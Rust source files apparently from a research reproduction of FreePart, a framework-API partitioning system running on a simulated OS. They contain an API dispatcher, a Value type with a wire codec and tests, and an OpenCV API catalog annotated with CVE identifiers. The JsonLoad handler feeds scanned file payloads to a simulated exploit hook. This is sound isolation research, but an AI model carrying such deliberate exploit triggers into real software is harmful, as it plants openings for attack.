            let meta = want_obj(ctx, args, 1)?;
            let bytes = ctx.objects.read_bytes(ctx.kernel, meta.id)?;
            charge(ctx, &spec, bytes.len() as u64);
            write_whole_file(ctx, &path, bytes)?;
            Ok(Value::Unit)
        }
        ApiKind::JsonLoad => {
            let path = want_str(args, 0)?;
            let bytes = read_whole_file(ctx, &path)?;
            let payload = fileio::scan_payload(&bytes);
            maybe_exploit(ctx, &spec, payload.as_ref())?;
            charge(ctx, &spec, bytes.len() as u64);
            let id = ctx.objects.create_with_data(
                ctx.kernel,
                ctx.pid,
                ObjectKind::Blob,
                &path,
                &bytes,
            )?;
            Ok(Value::Obj(id))
        }
        ApiKind::JsonDump => {
            let path = want_str(args, 0)?;
            let meta = want_obj(ctx, args, 1)?;
            let bytes = ctx.objects.read_bytes(ctx.kernel, meta.id)?;
            charge(ctx, &spec, bytes.len() as u64);
            write_whole_file(ctx, &path, bytes)?;
            Ok(Value::Unit)
        }
        ApiKind::PlotAdd => {
            let series: Vec<f64> = match args.first() {
                Some(Value::List(vs)) => vs.iter().filter_map(Value::as_f64).collect(),
                Some(Value::Obj(_)) => {
                    let meta = want_obj(ctx, args, 0)?;
                    let t = load_tensor(ctx, &meta)?;
                    t.data.iter().map(|&v| v as f64).collect()
                }
                _ => {
                    return Err(FrameworkError::BadArgs(
                        "plot wants a list or tensor".into(),
                    ))
                }
            };
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, series.len() as u64);
            let bytes = fileio::encode_csv(&[series]);
            let id = ctx.objects.create_with_data(
                ctx.kernel,
                ctx.pid,
                ObjectKind::Blob,
                "figure",
                &bytes,
            )?;
            Ok(Value::Obj(id))
        }
        ApiKind::PlotShow => {
            let meta = want_obj(ctx, args, 0)?;
            let bytes = ctx.objects.read_bytes(ctx.kernel, meta.id)?;
            let fd = gui_socket(ctx)?;
            ctx.syscall(Syscall::Send { fd, bytes })?;
            let win = match ctx.kernel.display.find_window("figure") {
                Some(w) => w,
                None => ctx.kernel.win_create("figure"),
            };
            ctx.kernel.win_present(win, meta.len() as usize);
            ctx.record_flow(FlowOp::write(Storage::Gui, Storage::Mem));
            charge(ctx, &spec, meta.len());
            Ok(Value::Unit)
        }
        ApiKind::PlotSavefig => {
            let path = want_str(args, 0)?;
            let meta = want_obj(ctx, args, 1)?;
            let bytes = ctx.objects.read_bytes(ctx.kernel, meta.id)?;
            charge(ctx, &spec, bytes.len() as u64);
            write_whole_file(ctx, &path, bytes)?;
            Ok(Value::Unit)
        }
        ApiKind::SummaryWrite => {
            let path = want_str(args, 0)?;
            let entry = want_str(args, 1)?;
            let fd = match ctx.syscall(Syscall::Openat {
                path: path.clone(),
                create: true,
            })? {
                SyscallRet::NewFd(fd) => fd,
                _ => return Err(FrameworkError::Sim(Errno::Ebadf.into())),
            };
            let size = ctx.syscall(Syscall::Fstat { fd })?.num();
            ctx.syscall(Syscall::Lseek { fd, pos: size })?;
            ctx.syscall(Syscall::Write {
                fd,
                bytes: format!("{entry}\n").into_bytes(),
            })?;
            ctx.syscall(Syscall::Close { fd })?;
            ctx.record_flow(FlowOp::write(Storage::File, Storage::Mem));
            charge(ctx, &spec, entry.len() as u64);
            Ok(Value::Unit)
        }
        ApiKind::AllocUtil => {
            let len = want_i64(args, 0).unwrap_or(256).max(1) as usize;
            ctx.syscall(Syscall::Brk { grow: len as u64 })?;
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            let id = ctx.objects.create_with_data(
                ctx.kernel,
                ctx.pid,
                ObjectKind::Blob,
                &spec.name,
                &vec![0u8; len],
            )?;
            Ok(Value::Obj(id))
        }
        ApiKind::GuiStateRead => {
            ctx.syscall(Syscall::Poll { fds: vec![] })?;
            ctx.record_flow(FlowOp::Read(Storage::Gui));
            let titles = ctx.kernel.display.window_titles().join("\n");
            charge(ctx, &spec, titles.len() as u64 + 1);
            Ok(Value::Str(titles))
        }
    }
}

fn apply_filter(img: &Image, op: FilterOp) -> Image {
    match op {
        FilterOp::Gaussian => image::gaussian_blur(img),
        FilterOp::Box => image::box_blur(img),
        FilterOp::Median => image::median_blur(img),
        FilterOp::Laplacian => image::laplacian(img),
        FilterOp::Sharpen => image::sharpen(img),
        FilterOp::Erode => image::erode(img),
        FilterOp::Dilate => image::dilate(img),
        FilterOp::MorphOpen => image::morphology_ex(img, image::MorphOp::Open),
        FilterOp::MorphClose => image::morphology_ex(img, image::MorphOp::Close),
        FilterOp::MorphGradient => image::morphology_ex(img, image::MorphOp::Gradient),
        FilterOp::Canny => image::canny(img, 40, 120),
        FilterOp::Sobel => image::sobel(img),
        FilterOp::EqualizeHist => image::equalize_hist(img),
        FilterOp::Threshold => image::threshold(img, 128),
        FilterOp::ToGray => image::cvt_color_to_gray(img),
        FilterOp::ToBgr => image::gray_to_bgr(img),
        FilterOp::FlipH => image::flip_horizontal(img),
        FilterOp::PyrDown => image::pyr_down(img),
        FilterOp::Warp => {
            // A mild shear keeps content comparable while exercising the
            // full inverse-mapping path.
            let shear: image::Homography = [1.0, 0.05, 0.0, 0.02, 1.0, 0.0, 0.0, 0.0, 1.0];
            image::warp_perspective(img, &shear)
        }
        FilterOp::Identity => img.clone(),
    }
}

fn run_window_op(ctx: &mut ApiCtx<'_>, spec: &ApiSpec, op: WindowOp, args: &[Value]) -> ExecResult {
    match op {
        WindowOp::Named => {
            let title = want_str(args, 0)?;
            let fd = gui_socket(ctx)?;
            ctx.syscall(Syscall::Send {
                fd,
                bytes: title.clone().into_bytes(),
            })?;
            let win = ctx.kernel.win_create(&title);
            ctx.record_flow(FlowOp::write(Storage::Gui, Storage::Mem));
            charge(ctx, spec, 16);
            let id = ctx
                .objects
                .create_handle(ctx.pid, ObjectKind::Window { id: win }, &title);
            Ok(Value::Obj(id))
        }
        WindowOp::Move | WindowOp::SetTitle => {
            let fd = gui_socket(ctx)?;
            ctx.syscall(Syscall::Send {
                fd,
                bytes: vec![0; 16],
            })?;
            ctx.record_flow(FlowOp::write(Storage::Gui, Storage::Mem));
            charge(ctx, spec, 16);
            Ok(Value::Unit)
        }
        WindowOp::DestroyAll => {
            let fd = gui_socket(ctx)?;
            ctx.syscall(Syscall::Send {
                fd,
                bytes: vec![0; 4],
            })?;
            ctx.kernel.win_destroy_all();
            ctx.record_flow(FlowOp::write(Storage::Gui, Storage::Mem));
            charge(ctx, spec, 4);
            Ok(Value::Unit)
        }
        WindowOp::PollKey | WindowOp::WaitKey => {
            ctx.syscall(Syscall::Poll { fds: vec![] })?;
            let key = ctx.kernel.win_poll_key();
            ctx.record_flow(FlowOp::Read(Storage::Gui));
            charge(ctx, spec, 1);
            Ok(Value::I64(key.map_or(-1, |k| k as i64)))
        }
        WindowOp::MouseWheel => {
            ctx.syscall(Syscall::Poll { fds: vec![] })?;
            ctx.record_flow(FlowOp::Read(Storage::Gui));
            charge(ctx, spec, 1);
            Ok(Value::I64(0))
        }
    }
}

fn charge(ctx: &mut ApiCtx<'_>, spec: &ApiSpec, units: u64) {
    ctx.charge_compute(spec.work_factor * units.max(1));
}
