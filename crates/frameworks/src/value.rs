//! Argument / return values exchanged with framework APIs.
//!
//! [`Value`] is what crosses the hooked API boundary — and therefore what
//! FreePart's RPC layer marshals between processes. Scalars travel by
//! value; objects travel as [`Value::Obj`] references whose payload
//! movement is the Lazy-Data-Copy policy's business.

use crate::image::Rect;
use crate::object::ObjectId;
use std::fmt;

/// A dynamically-typed API argument or return value.
#[derive(Debug, Clone, PartialEq, serde::Serialize, serde::Deserialize)]
pub enum Value {
    /// No value (procedures).
    Unit,
    /// Boolean flag.
    Bool(bool),
    /// Integer.
    I64(i64),
    /// Floating point.
    F64(f64),
    /// String (paths, window titles, text).
    Str(String),
    /// Raw bytes travelling by value.
    Bytes(Vec<u8>),
    /// Reference to a framework object (payload stays in some process).
    Obj(ObjectId),
    /// Detection results.
    Rects(Vec<Rect>),
    /// Heterogeneous list.
    List(Vec<Value>),
}

impl Value {
    /// Bytes this value occupies on the wire when marshalled *by
    /// reference* (objects cost one descriptor, not their payload).
    pub fn wire_size(&self) -> u64 {
        match self {
            Value::Unit => 1,
            Value::Bool(_) => 1,
            Value::I64(_) | Value::F64(_) => 8,
            Value::Str(s) => s.len() as u64 + 4,
            Value::Bytes(b) => b.len() as u64 + 4,
            Value::Obj(_) => 16,
            Value::Rects(r) => r.len() as u64 * 16 + 4,
            Value::List(vs) => 4 + vs.iter().map(Value::wire_size).sum::<u64>(),
        }
    }

    /// The object reference, if this is one.
    pub fn as_obj(&self) -> Option<ObjectId> {
        match self {
            Value::Obj(id) => Some(*id),
            _ => None,
        }
    }

    /// The string, if this is one.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    /// The integer, if this is one.
    pub fn as_i64(&self) -> Option<i64> {
        match self {
            Value::I64(i) => Some(*i),
            _ => None,
        }
    }

    /// The float, accepting integers too.
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Value::F64(f) => Some(*f),
            Value::I64(i) => Some(*i as f64),
            _ => None,
        }
    }

    /// Every object reference reachable in this value (recursing into
    /// lists) — what the RPC layer scans to plan data movement.
    pub fn collect_objects(&self, out: &mut Vec<ObjectId>) {
        match self {
            Value::Obj(id) => out.push(*id),
            Value::List(vs) => {
                for v in vs {
                    v.collect_objects(out);
                }
            }
            _ => {}
        }
    }
}

impl fmt::Display for Value {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Value::Unit => f.write_str("()"),
            Value::Bool(b) => b.fmt(f),
            Value::I64(i) => i.fmt(f),
            Value::F64(x) => x.fmt(f),
            Value::Str(s) => write!(f, "{s:?}"),
            Value::Bytes(b) => write!(f, "<{} bytes>", b.len()),
            Value::Obj(id) => id.fmt(f),
            Value::Rects(r) => write!(f, "<{} rects>", r.len()),
            Value::List(vs) => write!(f, "<list of {}>", vs.len()),
        }
    }
}

impl From<i64> for Value {
    fn from(v: i64) -> Self {
        Value::I64(v)
    }
}

impl From<f64> for Value {
    fn from(v: f64) -> Self {
        Value::F64(v)
    }
}

impl From<&str> for Value {
    fn from(v: &str) -> Self {
        Value::Str(v.to_owned())
    }
}

impl From<ObjectId> for Value {
    fn from(v: ObjectId) -> Self {
        Value::Obj(v)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wire_size_is_reference_based_for_objects() {
        // A huge object costs the same as a tiny one — only the
        // reference travels.
        assert_eq!(Value::Obj(ObjectId(0)).wire_size(), 16);
        assert_eq!(Value::Bytes(vec![0; 100]).wire_size(), 104);
        assert_eq!(Value::Str("ab".into()).wire_size(), 6);
    }

    #[test]
    fn collect_objects_recurses_lists() {
        let v = Value::List(vec![
            Value::Obj(ObjectId(1)),
            Value::I64(4),
            Value::List(vec![Value::Obj(ObjectId(2))]),
        ]);
        let mut out = Vec::new();
        v.collect_objects(&mut out);
        assert_eq!(out, vec![ObjectId(1), ObjectId(2)]);
    }

    #[test]
    fn accessors() {
        assert_eq!(Value::from(3i64).as_i64(), Some(3));
        assert_eq!(Value::from(3i64).as_f64(), Some(3.0));
        assert_eq!(Value::from("x").as_str(), Some("x"));
        assert_eq!(Value::from(ObjectId(9)).as_obj(), Some(ObjectId(9)));
        assert_eq!(Value::Unit.as_i64(), None);
    }
}
