//! Argument / return values exchanged with framework APIs.
//!
//! [`Value`] is what crosses the hooked API boundary — and therefore what
//! FreePart's RPC layer marshals between processes. Scalars travel by
//! value; objects travel as [`Value::Obj`] references whose payload
//! movement is the Lazy-Data-Copy policy's business.

use crate::image::Rect;
use crate::object::ObjectId;
use std::fmt;

/// A dynamically-typed API argument or return value.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// No value (procedures).
    Unit,
    /// Boolean flag.
    Bool(bool),
    /// Integer.
    I64(i64),
    /// Floating point.
    F64(f64),
    /// String (paths, window titles, text).
    Str(String),
    /// Raw bytes travelling by value.
    Bytes(Vec<u8>),
    /// Reference to a framework object (payload stays in some process).
    Obj(ObjectId),
    /// Detection results.
    Rects(Vec<Rect>),
    /// Heterogeneous list.
    List(Vec<Value>),
}

impl Value {
    /// Bytes this value occupies on the wire when marshalled *by
    /// reference* (objects cost one descriptor, not their payload).
    pub fn wire_size(&self) -> u64 {
        match self {
            Value::Unit => 1,
            Value::Bool(_) => 1,
            Value::I64(_) | Value::F64(_) => 8,
            Value::Str(s) => s.len() as u64 + 4,
            Value::Bytes(b) => b.len() as u64 + 4,
            Value::Obj(_) => 16,
            Value::Rects(r) => r.len() as u64 * 16 + 4,
            Value::List(vs) => 4 + vs.iter().map(Value::wire_size).sum::<u64>(),
        }
    }

    /// The object reference, if this is one.
    pub fn as_obj(&self) -> Option<ObjectId> {
        match self {
            Value::Obj(id) => Some(*id),
            _ => None,
        }
    }

    /// The string, if this is one.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    /// The integer, if this is one.
    pub fn as_i64(&self) -> Option<i64> {
        match self {
            Value::I64(i) => Some(*i),
            _ => None,
        }
    }

    /// The float, accepting integers too.
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Value::F64(f) => Some(*f),
            Value::I64(i) => Some(*i as f64),
            _ => None,
        }
    }

    /// Appends this value's compact binary wire form to `out`.
    ///
    /// The format is tag-prefixed with little-endian fixed-width scalars
    /// and `u32` length prefixes — no intermediate allocations, so the
    /// RPC layer can marshal straight into a reusable scratch buffer.
    pub fn encode_into(&self, out: &mut Vec<u8>) {
        match self {
            Value::Unit => out.push(0),
            Value::Bool(b) => {
                out.push(1);
                out.push(u8::from(*b));
            }
            Value::I64(i) => {
                out.push(2);
                out.extend_from_slice(&i.to_le_bytes());
            }
            Value::F64(x) => {
                out.push(3);
                out.extend_from_slice(&x.to_le_bytes());
            }
            Value::Str(s) => {
                out.push(4);
                out.extend_from_slice(&(s.len() as u32).to_le_bytes());
                out.extend_from_slice(s.as_bytes());
            }
            Value::Bytes(b) => {
                out.push(5);
                out.extend_from_slice(&(b.len() as u32).to_le_bytes());
                out.extend_from_slice(b);
            }
            Value::Obj(id) => {
                out.push(6);
                out.extend_from_slice(&id.0.to_le_bytes());
            }
            Value::Rects(rs) => {
                out.push(7);
                out.extend_from_slice(&(rs.len() as u32).to_le_bytes());
                for r in rs {
                    out.extend_from_slice(&r.x.to_le_bytes());
                    out.extend_from_slice(&r.y.to_le_bytes());
                    out.extend_from_slice(&r.w.to_le_bytes());
                    out.extend_from_slice(&r.h.to_le_bytes());
                }
            }
            Value::List(vs) => {
                out.push(8);
                out.extend_from_slice(&(vs.len() as u32).to_le_bytes());
                for v in vs {
                    v.encode_into(out);
                }
            }
        }
    }

    /// Decodes one value from `buf` starting at `*pos`, advancing `*pos`
    /// past it. Returns `None` on truncated or malformed input.
    pub fn decode_from(buf: &[u8], pos: &mut usize) -> Option<Value> {
        fn take<'a>(buf: &'a [u8], pos: &mut usize, n: usize) -> Option<&'a [u8]> {
            let slice = buf.get(*pos..*pos + n)?;
            *pos += n;
            Some(slice)
        }
        fn take_u32(buf: &[u8], pos: &mut usize) -> Option<u32> {
            Some(u32::from_le_bytes(take(buf, pos, 4)?.try_into().ok()?))
        }
        fn take_u64(buf: &[u8], pos: &mut usize) -> Option<u64> {
            Some(u64::from_le_bytes(take(buf, pos, 8)?.try_into().ok()?))
        }

        let tag = *buf.get(*pos)?;
        *pos += 1;
        Some(match tag {
            0 => Value::Unit,
            1 => Value::Bool(*take(buf, pos, 1)?.first()? != 0),
            2 => Value::I64(take_u64(buf, pos)? as i64),
            3 => Value::F64(f64::from_le_bytes(take(buf, pos, 8)?.try_into().ok()?)),
            4 => {
                let len = take_u32(buf, pos)? as usize;
                Value::Str(std::str::from_utf8(take(buf, pos, len)?).ok()?.to_owned())
            }
            5 => {
                let len = take_u32(buf, pos)? as usize;
                Value::Bytes(take(buf, pos, len)?.to_vec())
            }
            6 => Value::Obj(ObjectId(take_u64(buf, pos)?)),
            7 => {
                let n = take_u32(buf, pos)? as usize;
                let mut rs = Vec::with_capacity(n.min(1024));
                for _ in 0..n {
                    rs.push(Rect {
                        x: take_u32(buf, pos)?,
                        y: take_u32(buf, pos)?,
                        w: take_u32(buf, pos)?,
                        h: take_u32(buf, pos)?,
                    });
                }
                Value::Rects(rs)
            }
            8 => {
                let n = take_u32(buf, pos)? as usize;
                let mut vs = Vec::with_capacity(n.min(1024));
                for _ in 0..n {
                    vs.push(Value::decode_from(buf, pos)?);
                }
                Value::List(vs)
            }
            _ => return None,
        })
    }

    /// Every object reference reachable in this value (recursing into
    /// lists) — what the RPC layer scans to plan data movement.
    pub fn collect_objects(&self, out: &mut Vec<ObjectId>) {
        match self {
            Value::Obj(id) => out.push(*id),
            Value::List(vs) => {
                for v in vs {
                    v.collect_objects(out);
                }
            }
            _ => {}
        }
    }
}

impl fmt::Display for Value {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Value::Unit => f.write_str("()"),
            Value::Bool(b) => b.fmt(f),
            Value::I64(i) => i.fmt(f),
            Value::F64(x) => x.fmt(f),
            Value::Str(s) => write!(f, "{s:?}"),
            Value::Bytes(b) => write!(f, "<{} bytes>", b.len()),
            Value::Obj(id) => id.fmt(f),
            Value::Rects(r) => write!(f, "<{} rects>", r.len()),
            Value::List(vs) => write!(f, "<list of {}>", vs.len()),
        }
    }
}

impl From<i64> for Value {
    fn from(v: i64) -> Self {
        Value::I64(v)
    }
}

impl From<f64> for Value {
    fn from(v: f64) -> Self {
        Value::F64(v)
    }
}

impl From<&str> for Value {
    fn from(v: &str) -> Self {
        Value::Str(v.to_owned())
    }
}

impl From<ObjectId> for Value {
    fn from(v: ObjectId) -> Self {
        Value::Obj(v)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wire_size_is_reference_based_for_objects() {
        // A huge object costs the same as a tiny one — only the
        // reference travels.
        assert_eq!(Value::Obj(ObjectId(0)).wire_size(), 16);
        assert_eq!(Value::Bytes(vec![0; 100]).wire_size(), 104);
        assert_eq!(Value::Str("ab".into()).wire_size(), 6);
    }

    #[test]
    fn collect_objects_recurses_lists() {
        let v = Value::List(vec![
            Value::Obj(ObjectId(1)),
            Value::I64(4),
            Value::List(vec![Value::Obj(ObjectId(2))]),
        ]);
        let mut out = Vec::new();
        v.collect_objects(&mut out);
        assert_eq!(out, vec![ObjectId(1), ObjectId(2)]);
    }

    #[test]
    fn wire_codec_roundtrips_every_variant() {
        let v = Value::List(vec![
            Value::Unit,
            Value::Bool(true),
            Value::I64(-7),
            Value::F64(2.5),
            Value::Str("héllo".into()),
            Value::Bytes(vec![0, 255, 3]),
            Value::Obj(ObjectId(42)),
            Value::Rects(vec![Rect {
                x: 1,
                y: 2,
                w: 3,
                h: 4,
            }]),
            Value::List(vec![Value::I64(1)]),
        ]);
        let mut buf = Vec::new();
        v.encode_into(&mut buf);
        let mut pos = 0;
        let back = Value::decode_from(&buf, &mut pos).unwrap();
        assert_eq!(back, v);
        assert_eq!(pos, buf.len(), "decoder consumes exactly what it wrote");
        // Truncation at every prefix is detected, never a panic.
        for cut in 0..buf.len() {
            let mut p = 0;
            let r = Value::decode_from(&buf[..cut], &mut p);
            assert!(r.is_none() || p <= cut);
        }
    }

    #[test]
    fn accessors() {
        assert_eq!(Value::from(3i64).as_i64(), Some(3));
        assert_eq!(Value::from(3i64).as_f64(), Some(3.0));
        assert_eq!(Value::from("x").as_str(), Some("x"));
        assert_eq!(Value::from(ObjectId(9)).as_obj(), Some(ObjectId(9)));
        assert_eq!(Value::Unit.as_i64(), None);
    }
}
