//! The standard API catalog: every framework entry point this
//! reproduction models, with its semantics, type ground truth, syscall
//! profile, body IR, CVE links, and type-neutral/stateful flags.
//!
//! The catalog mirrors the paper's artifacts: the OpenCV surface is big
//! enough to express the motivating example's 86 APIs (Table 2), the
//! ML frameworks carry the CVEs of Table 5, and the odd corners —
//! `pd.read_csv`, `json.load`, `plt.show` needing hybrid analysis
//! (Table 2 footnote), `tf.keras.utils.get_file`'s copy-via-file idiom,
//! `cvtColor`'s type-neutrality, GTK's stateful recent-files list — are
//! all present because specific experiments depend on them.

use crate::api::{
    ApiId, ApiKind, ApiRegistry, ApiSpec, ApiType, BinaryOp, FilterOp, Framework, TensorUnaryOp,
    WindowOp,
};
use crate::ir::{build, IrStmt};
use freepart_simos::SyscallNo;

/// Declarative row for one catalog entry.
struct Def {
    name: &'static str,
    kind: ApiKind,
    neutral: bool,
    stateful: bool,
    vulns: &'static [&'static str],
    /// Hide the body behind an indirect call: static analysis fails,
    /// dynamic tracing required.
    opaque: bool,
    work: u64,
}

fn api(name: &'static str, kind: ApiKind) -> Def {
    Def {
        name,
        kind,
        neutral: false,
        stateful: false,
        vulns: &[],
        opaque: false,
        work: default_work(&kind),
    }
}

impl Def {
    fn neutral(mut self) -> Def {
        self.neutral = true;
        self
    }
    fn stateful(mut self) -> Def {
        self.stateful = true;
        self
    }
    fn vulns(mut self, v: &'static [&'static str]) -> Def {
        self.vulns = v;
        self
    }
    fn opaque(mut self) -> Def {
        self.opaque = true;
        self
    }
    fn work(mut self, w: u64) -> Def {
        self.work = w;
        self
    }
}

fn default_work(kind: &ApiKind) -> u64 {
    match kind {
        ApiKind::DetectMultiScale => 12,
        ApiKind::Forward => 8,
        ApiKind::TensorConv => 4,
        ApiKind::Filter(FilterOp::Median | FilterOp::Canny) => 6,
        ApiKind::Filter(_) | ApiKind::Binary(_) => 3,
        ApiKind::FindContours => 4,
        ApiKind::Window(_) | ApiKind::AllocUtil | ApiKind::GuiStateRead => 1,
        ApiKind::DrawRect | ApiKind::PutText => 1,
        _ => 2,
    }
}

/// Ground-truth type implied by execution semantics.
pub fn type_of_kind(kind: &ApiKind) -> ApiType {
    use ApiKind as K;
    match kind {
        K::ImRead
        | K::VideoCaptureNew
        | K::VideoCaptureRead
        | K::ClassifierLoad
        | K::TensorLoad
        | K::DownloadViaFile
        | K::DatasetLoad
        | K::ReadCsv
        | K::JsonLoad => ApiType::DataLoading,
        K::ImWrite
        | K::VideoWriterWrite
        | K::TensorSave
        | K::WriteCsv
        | K::JsonDump
        | K::PlotSavefig
        | K::SummaryWrite => ApiType::Storing,
        K::ImShow | K::Window(_) | K::PlotShow | K::GuiStateRead => ApiType::Visualizing,
        _ => ApiType::DataProcessing,
    }
}

/// Syscall profile (what the API's implementation needs) per kind.
pub fn profile_of_kind(kind: &ApiKind) -> Vec<SyscallNo> {
    use ApiKind as K;
    use SyscallNo as S;
    match kind {
        K::ImRead | K::ClassifierLoad | K::TensorLoad | K::ReadCsv | K::JsonLoad => {
            vec![S::Openat, S::Close, S::Brk, S::Fstat, S::Read, S::Lseek]
        }
        K::VideoCaptureNew => vec![S::Openat, S::Close, S::Ioctl, S::Mmap],
        K::VideoCaptureRead => vec![S::Brk, S::Ioctl, S::Select, S::Read, S::Openat],
        K::DatasetLoad => vec![
            S::Getdents,
            S::Openat,
            S::Fstat,
            S::Read,
            S::Close,
            S::Brk,
            S::Lseek,
        ],
        K::DownloadViaFile => vec![
            S::Socket,
            S::Connect,
            S::Recvfrom,
            S::Close,
            S::Openat,
            S::Write,
            S::Fstat,
            S::Read,
            S::Brk,
        ],
        K::ImWrite | K::WriteCsv | K::JsonDump | K::PlotSavefig => {
            vec![S::Openat, S::Write, S::Close, S::Umask, S::Mkdir]
        }
        K::VideoWriterWrite | K::SummaryWrite => {
            vec![S::Openat, S::Fstat, S::Lseek, S::Write, S::Close, S::Mkdir]
        }
        K::TensorSave => vec![S::Openat, S::Write, S::Close, S::Mkdir, S::Umask],
        K::ImShow | K::PlotShow => {
            vec![
                S::Socket,
                S::Connect,
                S::Send,
                S::Select,
                S::Futex,
                S::Eventfd2,
            ]
        }
        K::Window(WindowOp::PollKey | WindowOp::WaitKey | WindowOp::MouseWheel)
        | K::GuiStateRead => vec![S::Poll, S::Select],
        K::Window(_) => vec![
            S::Socket,
            S::Connect,
            S::Send,
            S::Select,
            S::Poll,
            S::Eventfd2,
        ],
        K::TrainStep => vec![S::Brk, S::Mmap, S::ClockGettime, S::Getrandom],
        K::DetectMultiScale => vec![S::Brk, S::Mmap, S::ClockGettime],
        K::AllocUtil | K::DrawRect | K::PutText => vec![S::Brk],
        _ => vec![S::Brk, S::Mmap],
    }
}

/// Body IR per kind; `opaque` hides it behind an indirect call.
pub fn ir_of_kind(kind: &ApiKind, opaque: bool) -> Vec<IrStmt> {
    use ApiKind as K;
    let body = match kind {
        K::ImRead
        | K::ClassifierLoad
        | K::TensorLoad
        | K::ReadCsv
        | K::JsonLoad
        | K::DatasetLoad => build::load_from_file(),
        K::VideoCaptureNew | K::VideoCaptureRead => build::load_from_device(),
        K::DownloadViaFile => build::download_via_temp_file(),
        K::ImWrite
        | K::VideoWriterWrite
        | K::TensorSave
        | K::WriteCsv
        | K::JsonDump
        | K::PlotSavefig
        | K::SummaryWrite => build::store_to_file(),
        K::ImShow
        | K::PlotShow
        | K::Window(WindowOp::Named | WindowOp::Move | WindowOp::SetTitle | WindowOp::DestroyAll) => {
            build::visualize()
        }
        K::Window(_) | K::GuiStateRead => build::gui_read(),
        _ => build::process_in_memory(),
    };
    if opaque {
        build::hidden(body)
    } else {
        body
    }
}

fn register_all(reg: &mut ApiRegistry, fw: Framework, defs: Vec<Def>) {
    for d in defs {
        let declared_type = type_of_kind(&d.kind);
        reg.register(ApiSpec {
            id: ApiId(0),
            name: d.name.to_owned(),
            framework: fw,
            kind: d.kind,
            declared_type,
            type_neutral: d.neutral,
            stateful: d.stateful,
            vulns: d.vulns.iter().map(|s| (*s).to_owned()).collect(),
            syscall_profile: profile_of_kind(&d.kind),
            work_factor: d.work,
            ir: ir_of_kind(&d.kind, d.opaque),
        });
    }
}

/// Builds the full standard catalog.
pub fn standard_registry() -> ApiRegistry {
    let mut reg = ApiRegistry::new();
    register_opencv(&mut reg);
    register_caffe(&mut reg);
    register_pytorch(&mut reg);
    register_tensorflow(&mut reg);
    register_keras(&mut reg);
    register_pillow(&mut reg);
    register_numpy(&mut reg);
    register_pandas_json_plt(&mut reg);
    register_gtk(&mut reg);
    reg
}

fn register_opencv(reg: &mut ApiRegistry) {
    use ApiKind as K;
    use BinaryOp as B;
    use FilterOp as F;
    use TensorUnaryOp as T;
    use WindowOp as W;
    let defs = vec![
        // ---- data loading (6) ----
        api("cv2.imread", K::ImRead).vulns(&[
            "CVE-2017-12597",
            "CVE-2017-12604",
            "CVE-2017-12605",
            "CVE-2017-12606",
            "CVE-2017-17760",
            "CVE-2017-14136",
            "CVE-2018-5269",
        ]),
        api("cv2.VideoCapture", K::VideoCaptureNew).stateful(),
        api("cv2.VideoCapture.read", K::VideoCaptureRead).stateful(),
        api("cv2.cvLoad", K::ClassifierLoad).vulns(&["CVE-2017-17760"]),
        api("cv2.readOpticalFlow", K::ImRead),
        api("cv2.CascadeClassifier.load", K::ClassifierLoad),
        // ---- data processing (75) ----
        api("cv2.GaussianBlur", K::Filter(F::Gaussian)),
        api("cv2.blur", K::Filter(F::Box)),
        api("cv2.medianBlur", K::Filter(F::Median)),
        api("cv2.bilateralFilter", K::Filter(F::Gaussian)).work(8),
        api("cv2.Laplacian", K::Filter(F::Laplacian)),
        api("cv2.Sobel", K::Filter(F::Sobel)),
        api("cv2.Scharr", K::Filter(F::Sobel)),
        api("cv2.Canny", K::Filter(F::Canny)),
        api("cv2.erode", K::Filter(F::Erode)),
        api("cv2.dilate", K::Filter(F::Dilate)),
        api("cv2.morphologyEx", K::Filter(F::MorphOpen)).work(6),
        api("cv2.threshold", K::Filter(F::Threshold)),
        api("cv2.adaptiveThreshold", K::Filter(F::Threshold)).work(5),
        api("cv2.resize", K::Resize),
        api("cv2.warpPerspective", K::Filter(F::Warp)).work(5),
        api("cv2.warpAffine", K::Filter(F::Warp)),
        api("cv2.getPerspectiveTransform", K::Reduce).work(1),
        api("cv2.cvtColor", K::Filter(F::ToGray)).neutral(),
        api("cv2.equalizeHist", K::Filter(F::EqualizeHist)),
        api("cv2.calcHist", K::Reduce),
        api("cv2.normalize", K::Filter(F::EqualizeHist)),
        api("cv2.findContours", K::FindContours),
        api("cv2.drawContours", K::DrawRect),
        api("cv2.boundingRect", K::Reduce).work(1),
        api("cv2.contourArea", K::Reduce).work(1),
        api("cv2.arcLength", K::Reduce).work(1),
        api("cv2.approxPolyDP", K::Reduce).work(1),
        api("cv2.convexHull", K::FindContours).work(2),
        api("cv2.moments", K::Reduce),
        api("cv2.matchTemplate", K::Binary(B::AbsDiff)).work(10),
        api("cv2.minMaxLoc", K::Reduce).work(1),
        api(
            "cv2.CascadeClassifier.detectMultiScale",
            K::DetectMultiScale,
        )
        .vulns(&[
            "CVE-2019-5063",
            "CVE-2019-14491",
            "CVE-2019-14492",
            "CVE-2019-14493",
        ]),
        api("cv2.HoughLines", K::Filter(F::Canny)).work(9),
        api("cv2.HoughCircles", K::Filter(F::Canny)).work(9),
        api("cv2.goodFeaturesToTrack", K::FindContours).work(5),
        api("cv2.cornerHarris", K::Filter(F::Sobel)).work(5),
        api("cv2.calcOpticalFlowPyrLK", K::Binary(B::AbsDiff)).work(8),
        api("cv2.calcOpticalFlowFarneback", K::Binary(B::AbsDiff))
            .work(10)
            .vulns(&["CVE-2019-5064"]),
        api("cv2.filter2D", K::Filter(F::Sharpen)),
        api("cv2.sepFilter2D", K::Filter(F::Gaussian)),
        api("cv2.pyrDown", K::Filter(F::PyrDown)),
        api("cv2.pyrUp", K::Resize),
        api("cv2.flip", K::Filter(F::FlipH)).work(1),
        api("cv2.transpose", K::Filter(F::FlipH)).work(1),
        api("cv2.rotate", K::Filter(F::FlipH)).work(1),
